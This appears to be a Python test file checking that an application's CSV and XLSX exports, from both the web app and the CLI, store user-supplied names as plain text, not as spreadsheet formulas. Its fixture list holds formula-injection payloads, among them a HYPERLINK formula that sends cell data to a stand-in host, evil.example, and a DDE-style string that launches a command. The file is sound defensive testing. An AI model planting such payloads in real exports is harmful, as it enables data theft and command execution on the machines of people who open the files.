"""Exported text is text: no cell of a CSV or XLSX export (web or CLI) runs as a formula.

Before the fix, names starting with "=", "+", "-" or "@" were written raw to CSV, and openpyxl
stored them in XLSX as real formulas."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import text

from tests.support.features import needs
from workflow.tabular import FORMULA_START, table_csv, table_xlsx

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1,1)", "\tindented", "\rcarriage"]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in z.read(n) and b"<f " not in z.read(n) for n in sheets)
    ws = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in ws.iter_rows()]


def test_the_writers_neutralise_csv_and_store_xlsx_text_as_text():
    header = ["=name", "days"]
    rows = [[v, -3] for v in DANGEROUS] + [["plain", 4]]
    cells = _csv_cells(table_csv(header, rows))
    assert cells[0] == ["'=name", "days"]
    for value, row in zip(DANGEROUS, cells[1:], strict=False):
        assert row == ["'" + value, "-3"]  # numbers stay numbers
    assert cells[-1] == ["plain", "4"]
    assert not any(c.startswith(FORMULA_START) for row in cells for c in row if c != "-3")

    xcells = _xlsx_cells(table_xlsx("=sheet", header, rows + [["bell\x07 and nul\x00", 1]]))
    assert [c.value for c in xcells[0]] == header
    for value, row in zip(DANGEROUS, xcells[1:], strict=False):
        # (a carriage return written raw comes back as a line feed, as XML reads it; written
        # as a character reference, as newer et_xmlfile writes it, it comes back as it was)
        assert row[0].value in (value, value.replace("\r", "\n")) and row[0].data_type == "s"
        assert row[1].value == -3 and row[1].data_type == "n"
    assert xcells[-1][0].value == "bell and nul"  # control characters XLSX cannot hold


@needs("planning")
def test_web_exports_write_names_as_text(web):
    with web.engine.begin() as conn:  # names an officer could type, in every exported column
        conn.execute(text("UPDATE organisation SET name = '=' || name"))
        conn.execute(text("UPDATE app_user SET full_name = '@' || full_name"))
    b = web.browser("nurlan")
    r = b.get("/overdue.csv")
    assert r.status_code == 200
    cells = _csv_cells(r.content)
    assert len(cells) > 1
    texts = [c for row in cells[1:] for c in row]
    assert any(c.startswith("'=") for c in texts)
    assert not any(c.startswith(FORMULA_START) for c in texts if not c.lstrip("-").isdigit())

    r = b.get("/overdue.xlsx")
    assert r.status_code == 200
    rows = _xlsx_cells(r.content)
    names = [row[0] for row in rows[1:]]
    assert names and all(c.data_type == "s" and c.value.startswith("=") for c in names)

    prog = web.programmes["AK-ALM-EDU"]
    for fmt in ("csv", "xlsx"):
        r = b.get(f"/programmes/{prog}.{fmt}")
        assert r.status_code == 200, r.text
        if fmt == "csv":
            assert not any(c.startswith(FORMULA_START) for row in _csv_cells(r.content)
                           for c in row if not c.lstrip("-").isdigit())
        else:
            _xlsx_cells(r.content)


@needs("monitoring")
@needs("planning")
def test_cli_exports_write_text_as_text(merzim_db, tmp_path):
    assert merzim_db("init", "--demo").returncode == 0
    run = merzim_db("positions", "add", "1", "--position", DANGEROUS[0], "--subdivision", "+sub",
                    "--risk", "@risk")
    assert run.returncode == 0, run.stderr
    out_csv, out_xlsx = tmp_path / "p.csv", tmp_path / "p.xlsx"
    for f in (out_csv, out_xlsx):
        assert merzim_db("positions", "export", "MF", str(f)).returncode == 0
    row = _csv_cells(out_csv.read_bytes())[-1]  # position, subdivision, risk No., risk
    assert [row[2], row[3], row[5]] == ["'" + DANGEROUS[0], "'+sub", "'@risk"]
    xrow = _xlsx_cells(out_xlsx.read_bytes())[-1]
    texts = [xrow[2], xrow[3], xrow[5]]
    assert [c.value for c in texts] == [DANGEROUS[0], "+sub", "@risk"]
    assert all(c.data_type == "s" for c in texts)
